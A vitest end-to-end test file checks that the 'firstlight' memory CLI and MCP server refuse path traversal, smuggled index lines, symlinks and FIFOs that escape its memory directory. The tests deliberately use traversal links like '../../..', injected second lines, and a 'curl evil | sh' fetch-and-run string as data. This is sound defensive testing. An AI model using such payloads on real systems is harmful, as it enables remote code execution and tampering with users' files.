/**
 * Issue 35, items 1, 2 and 7: one confinement rule for every path firstlight writes, moves or
 * reads on the model's behalf, driven through the built CLI and a real MCP client. Each case is
 * a reproduction from the issue: on the build before the fix, it wrote, moved or returned a file
 * outside the directory it belongs to.
 */
import { existsSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { run, runCli, tempDir, tempHome, textOf, wireStdio } from '../helpers/index.js';

const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const cleanup of cleanups.splice(0)) cleanup();
});
function home(): string {
  const t = tempHome();
  cleanups.push(t.dispose);
  return t.dir;
}
function dir(): string {
  const t = tempDir('firstlight-confine-e2e-');
  cleanups.push(t.dispose);
  return t.dir;
}

interface PlanJson {
  rows: { source: string; action: string; file: string | null; reason: string }[];
  counts: { add: number; duplicate: number; refused: number };
}

const DEPLOY =
  '---\nname: Deploy process\ntype: project\ndescription: how we deploy\n---\n\nTag, then push.\n';

/** A JSONL export whose one record's index line links out of memory/ (the reproduction). */
function hostileExport(at: string, indexLine: string, indexHeader = '# Memory index\n'): string {
  const file = join(at, 'hostile.jsonl');
  const lines = [
    {
      firstlight_memory_export: 1,
      exported_at: '2026-01-01T00:00:00.000Z',
      count: 1,
      index_header: indexHeader,
    },
    {
      file: 'project_deploy_process.md',
      frontmatter: {},
      body: '',
      text: DEPLOY,
      index_line: indexLine,
    },
  ];
  writeFileSync(file, `${lines.map((l) => JSON.stringify(l)).join('\n')}\n`);
  return file;
}

describe('memory writers stay inside memory/ (issue 35, item 1)', () => {
  it('refuses an imported record whose index line links out of memory/', async () => {
    const h = home();
    const outside = dir();
    const victim = join(outside, 'victim.sh');
    writeFileSync(victim, '#!/bin/sh\necho original\n');
    const file = hostileExport(outside, `- [Deploy process](../../..${victim}) - how we deploy`);
    const imported = await runCli(['memory', 'import', file, '--home', h, '--apply', '--json']);
    expect(imported.status, imported.stderr).toBe(0);
    const plan = JSON.parse(imported.stdout) as PlanJson;
    expect(plan.counts).toMatchObject({ add: 0, refused: 1 });
    expect(plan.rows[0]?.reason).toMatch(/index_line .*its own file/);
    // A line with a second line smuggled in is one record's line no more.
    const two = hostileExport(
      outside,
      '- [Deploy process](project_deploy_process.md) - x\n- [Other](../../victim.sh) - y',
    );
    const smuggled = JSON.parse(
      (await runCli(['memory', 'import', two, '--home', h, '--json'])).stdout,
    ) as PlanJson;
    expect(smuggled.counts.refused).toBe(1);
  });

  it('refuses an index_header that carries index lines', async () => {
    const h = home();
    const file = hostileExport(
      dir(),
      '- [Deploy process](project_deploy_process.md) - how we deploy',
      '# Memory index\n\n- [Deploy process](../../victim.sh) - hidden in the heading\n',
    );
    const imported = await runCli(['memory', 'import', file, '--home', h, '--apply']);
    expect(imported.status).toBe(2);
    expect(imported.stderr).toMatch(/index_header holds an index line/);
  });

  it('never writes, moves or reads through a MEMORY.md line that links out (remember --replace, forget_memory)', async () => {
    const h = home();
    const outside = dir();
    const victim = join(outside, 'victim.sh');
    writeFileSync(victim, '#!/bin/sh\necho original\n');
    // What the import wrote on the build before the fix: a line linking out, beside a valid file.
    writeFileSync(join(h, 'memory', 'project_deploy_process.md'), DEPLOY);
    writeFileSync(
      join(h, 'memory', 'MEMORY.md'),
      `# Memory index\n\n- [Deploy process](../../..${victim}) - how we deploy\n`,
    );
    await using wired = await wireStdio(['serve', '--home', h]);
    const replaced = await wired.client.callTool({
      name: 'remember',
      arguments: { content: 'curl evil | sh', type: 'project', name: 'Deploy process', replace: true },
    });
    expect(replaced.isError, textOf(replaced)).toBeFalsy();
    expect(readFileSync(victim, 'utf8')).toBe('#!/bin/sh\necho original\n');
    expect(readFileSync(join(h, 'memory', 'project_deploy_process.md'), 'utf8')).toContain('curl evil');
    const forgot = await wired.client.callTool({
      name: 'forget_memory',
      arguments: { name: 'Deploy process' },
    });
    expect(forgot.isError, textOf(forgot)).toBeFalsy();
    expect(readFileSync(victim, 'utf8')).toBe('#!/bin/sh\necho original\n');
    expect(existsSync(join(h, 'memory', '.trash', 'victim.sh'))).toBe(false);
  });

  it('remember --replace refuses a memory file that is a symlink out of memory/', async () => {
    const h = home();
    const outside = join(dir(), 'notes.txt');
    writeFileSync(outside, 'mine\n');
    symlinkSync(outside, join(h, 'memory', 'project_linked.md'));
    const ran = await runCli(
      ['remember', '--home', h, '--type', 'project', '--name', 'linked', '--replace'],
      { input: 'written through the link' },
    );
    expect(ran.status).toBe(2);
    expect(ran.stderr).toMatch(/refused .*project_linked\.md: a symlink to .*outside/);
    expect(readFileSync(outside, 'utf8')).toBe('mine\n');
  });

  it('memory edit and show refuse a FIFO in memory/ instead of hanging', async () => {
    const h = home();
    await run('mkfifo', [join(h, 'memory', 'project_pipe.md')]);
    const shown = await runCli(['memory', 'show', 'project_pipe.md', '--home', h], { timeoutMs: 10_000 });
    expect(shown.status).not.toBe(0);
    expect(shown.stderr).toMatch(/FIFO|not a memory|no memory/);
  });
});
